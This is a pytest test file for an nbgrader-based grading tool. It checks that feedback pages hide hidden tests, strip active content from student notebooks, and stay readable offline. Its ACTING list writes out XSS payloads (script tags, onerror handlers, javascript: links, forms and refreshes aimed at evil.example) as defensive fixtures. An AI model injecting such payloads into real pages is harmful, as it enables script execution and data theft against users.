"""Pages made of students' notebooks: no hidden test in them, nothing that acts, readable offline."""

import base64
import codecs
import copy
import time

import nbformat
import pytest
from axe_playwright_python.sync_playwright import Axe
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from nbgrader.server_extensions.formgrader import handlers
from traitlets.config import Config

from attnlib import notebooks
from attnlib.grading import feedback, mask, restore, safe
from attnlib.grading.course import Course
from attnlib.grading.score import hidden_lines
from tests.conftest import SCREENSHOTS
from tests.grading.conftest import LESSON, ROOT

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
HACK = "window.hacked = true"
ACTING = [
    f"<script>{HACK}</script>", f"<img src=x onerror='{HACK}'>", f"<svg onload='{HACK}'><script>{HACK}</script></svg>",
    f"<a id=bait href='javascript:{HACK}'>look</a>", "<form action='https://evil.example'><input name=p></form>",
    f"<iframe srcdoc='<script>parent.{HACK}</script>'></iframe>", "<img src='https://evil.example/seen.png'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href='https://evil.example/'>",
    "<style>body { display: none }</style>", "<link rel=stylesheet href='https://evil.example/x.css'>",
    f"$\\text{{<img src=x onerror='{HACK}'>}}$", f"$\\href{{javascript:{HACK}}}{{x}}$",
    f"<details open ontoggle='{HACK}'><summary>s</summary></details>", f"<video><source onerror='{HACK}'></video>",
    "<b class=nbgrader_cell id=test_double>b</b>", "<button formaction=//evil.example>b</button>",
]


@pytest.fixture(scope="module")
def attention():
    """Lesson 05 with its hidden tests."""
    return restore.to_grade(Course(ROOT), *Course(ROOT).sources("05_attention"))


@pytest.fixture(scope="module")
def hidden(attention):
    """The text of its first hidden tests."""
    source = next(cell.source for cell in attention.cells if hidden_lines(cell.source))
    lines = source.split("\n")
    return "\n".join(lines[number - 1] for number in hidden_lines(source))


WAYS = {
    "plain": str, "repr": repr, "upper": str.upper, "reversed": lambda text: text[::-1],
    "rot13": lambda text: codecs.encode(text, "rot13"),
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "base64 in lines": lambda text: base64.encodebytes(text.encode()).decode(),
    "base64 for addresses": lambda text: "here: " + base64.urlsafe_b64encode(text.encode()).decode(),
    "hex": lambda text: text.encode().hex(), "hex apart": lambda text: text.encode().hex(" "),
    "hex as a list": lambda text: str([hex(ord(sign)) for sign in text if ord(sign) < 256]),
    "numbers": lambda text: str([ord(sign) for sign in text]),
    "a sign a line": "\n".join, "a list": lambda text: str(list(text)),
    "numbered": lambda text: "\n".join(f"{number}: {sign}" for number, sign in enumerate(text)),
    "base64 reversed": lambda text: base64.b64encode(text.encode()).decode()[::-1],
    "hex in base64": lambda text: base64.b64encode(text.encode().hex().encode()).decode(),
    "a line of it": lambda text: max(text.split("\n"), key=len),
}


@pytest.mark.parametrize("way", WAYS)
def test_a_hidden_test_is_found_however_it_was_printed(attention, hidden, way):
    told = WAYS[way](hidden)
    book = copy.deepcopy(attention)
    book.cells += [new_code_cell("print(In)", outputs=[new_output("stream", text=f"before\n{told}\nafter")]),
                   new_code_cell("x", outputs=[new_output("error", ename="E", evalue="", traceback=[told])]),
                   new_code_cell("y", outputs=[new_output("display_data", data={"text/html": f"<p>{told}</p>"})]),
                   new_code_cell("z", outputs=[new_output("stream", text="an honest line\n")])]
    for cell in book.cells[-4:]:
        cell.metadata["attn"] = {"handed_in": cell.outputs}
    book.cells[0].metadata["attn"] = {"reason": f"NameError: {told}"}
    book, _ = mask.MaskHiddenTests().preprocess(book, {})
    assert [cell.outputs[0].text for cell in book.cells[-4:]] == [mask.LEFT_OUT] * 3 + ["an honest line\n"]
    assert told not in str(book) and not any(hidden_lines(cell.source) for cell in book.cells if "source" in cell)
    assert told not in book.cells[0].metadata.attn["reason"]


@pytest.mark.parametrize("lesson", ["01_embeddings", "05_attention", "06_attention_decoder"])
def test_honest_outputs_are_all_shown(lesson):
    course = Course(ROOT)
    solved = {cell.id: cell for cell in nbformat.read(course.sources(lesson)[0], 4).cells}
    book = restore.to_grade(course, *course.sources(lesson))
    for cell in book.cells:
        if cell.cell_type == "code":
            cell.outputs = solved[cell.id].outputs
            cell.metadata["attn"] = {"handed_in": cell.outputs}
        if notebooks.is_solution(cell):
            cell.source = solved[cell.id].source
    shown = sum(len(cell.get("outputs", [])) for cell in book.cells if not hidden_lines(cell.source))
    began = time.process_time()
    book, _ = mask.MaskHiddenTests().preprocess(book, {})
    assert sum(len(cell.get("outputs", [])) for cell in book.cells if mask.MASK not in cell.source) == shown
    assert mask.LEFT_OUT not in str(book)
    assert time.process_time() - began < 15


def test_pictures_that_were_not_handed_in_go_once_hidden_tests_have_run(attention):
    picture = new_output("display_data", data={"image/png": PIXEL, "text/plain": "<Figure>"})
    own = [new_code_cell("plt.text(0, 0, In[-2])", id=f"{notebooks.OWN}{number}", outputs=[picture])
           for number in range(2)]
    book = copy.deepcopy(attention)
    book.cells = [own[0], *book.cells, own[1]]
    book, _ = mask.MaskHiddenTests().preprocess(book, {})
    assert "image/png" in book.cells[0].outputs[0].data and book.cells[-1].outputs[0].text == mask.HANDED_IN


@pytest.fixture(scope="module")
def acting():
    """A graded notebook of lesson 00 in which everything wants to act."""
    book = restore.to_grade(Course(ROOT), *Course(ROOT).sources(LESSON))
    for cell in book.cells:
        if notebooks.grade_id(cell):
            cell.metadata.nbgrader |= {"score": 0.0, "points": 1.0, "comment": None}
            cell.metadata["attn"] = {"reason": f"NotYet: {ACTING[0]}"}
        if notebooks.is_solution(cell):
            cell.source = f'"""{"".join(ACTING)}"""'
    book.metadata["attn"] = {"reason": "", "notes": [f"{ACTING[1]}.ipynb was recognised by its exercises"]}
    about = {"text/html": {"isolated": True}, "image/png": {"alt": f'"><script>{HACK}</script>'}}
    for text in ACTING:
        kinds = [{"text/html": text}, {"text/markdown": text}, {"image/svg+xml": f"<svg>{text}</svg>"},
                 {"text/latex": text}, {"application/javascript": HACK}, {"text/plain": text},
                 {"image/png": f'{PIXEL}"><script>{HACK}</script>'}, {"image/png": PIXEL},
                 {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{text}"}}]
        outputs = [new_output("display_data", data=data, metadata=about) for data in kinds]
        outputs += [new_output("stream", text=text), new_output("error", ename=text, evalue=text, traceback=[text])]
        book.cells += [new_markdown_cell(text), new_markdown_cell(f"Some words {text} and more"),
                       new_raw_cell(text, metadata={"raw_mimetype": "text/html"}), new_code_cell(text, outputs=outputs)]
    book.cells.append(new_markdown_cell("The mean is $\\frac{1}{n}\\sum_i x_i < 3$, so `a < b`."))
    return book


@pytest.fixture(scope="module")
def pages(acting, tmp_path_factory):
    """{"feedback", "formgrader"}: files with the pages that the course's configuration makes of it."""
    folder, config = tmp_path_factory.mktemp("pages"), Config(Course(ROOT).config)
    own = {"student": "a&b", "notebook": "welcome", "score": 0.0, "max_score": 1.0, "late_penalty": 0.0}
    book = copy.deepcopy(acting)
    for step in config.GenerateFeedback.preprocessors[:2]:
        book, _ = step(config=config).preprocess(book, {})
    page, _ = feedback.FeedbackPage(config=config).from_notebook_node(book, {"nbgrader": own})
    (folder / "feedback.html").write_text(page, encoding="utf-8")
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {"base_url": "", "index": 0, "total": 1}
    page, _ = HTMLExporter(config=config).from_notebook_node(copy.deepcopy(acting), resources)
    (folder / "formgrader.html").write_text(page, encoding="utf-8")
    return {name: folder / f"{name}.html" for name in ("feedback", "formgrader")}


@pytest.mark.parametrize("kind", ["feedback", "formgrader"])
def test_no_page_holds_what_could_act(pages, kind):
    page = pages[kind].read_text(encoding="utf-8")
    page = page[page.index("<main>" if kind == "feedback" else 'id="notebook-container"'):]
    for tag in ("<script", "<iframe", "<form", "<style", "<meta", "<base", "<link", "<svg", "<video", "src=\"http"):
        assert tag not in page, tag
    assert "The mean is" in page and "<mfrac>" in page


@pytest.mark.browser
@pytest.mark.parametrize("kind", ["feedback", "formgrader"])
def test_nothing_that_a_student_wrote_runs_in_a_browser(pages, chromium, kind):
    page, asked = chromium.new_page(viewport={"width": 1100, "height": 900}), []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(dialog.message))
    page.goto(pages[kind].as_uri())
    for link in page.get_by_text("look", exact=True).all():
        link.click(force=True)
    page.wait_for_timeout(300)
    assert page.evaluate("window.hacked") is None
    assert page.url.split("#")[0] == pages[kind].as_uri()
    assert not [address for address in asked if "evil" in address]
    assert page.locator("form, iframe").count() == 0
    assert page.locator("#test_double").count() == 1  # nbgrader's own field, or the page's own mark
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=SCREENSHOTS / f"{kind}.png")
    page.close()


@pytest.mark.browser
def test_feedback_is_readable_offline_and_by_screen_readers(pages, chromium):
    context = chromium.new_context(viewport={"width": 1100, "height": 900}, offline=True)
    page, asked = context.new_page(), []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(pages["feedback"].as_uri())
    assert [address for address in asked if not address.startswith("data:")] == [pages["feedback"].as_uri()]
    assert page.locator("math mfrac").count() == 1
    found = Axe().run(page)
    assert found.violations_count == 0, found.generate_report()
    context.close()


@pytest.mark.parametrize("text", ["<div>" * 19_000, "<div>" * 50_000, "<" * 300_000, "[" * 5_000, "*a " * 5_000,
                                  "$" * 5_001, "x" * 3_000_000], ids=lambda text: f"{len(text)} of {text[:3]}")
def test_what_is_long_or_deep_takes_no_time(text):
    began = time.process_time()
    shown = safe._rendered(text, {})
    assert time.process_time() - began < 20 and len(shown) < 4_000_000
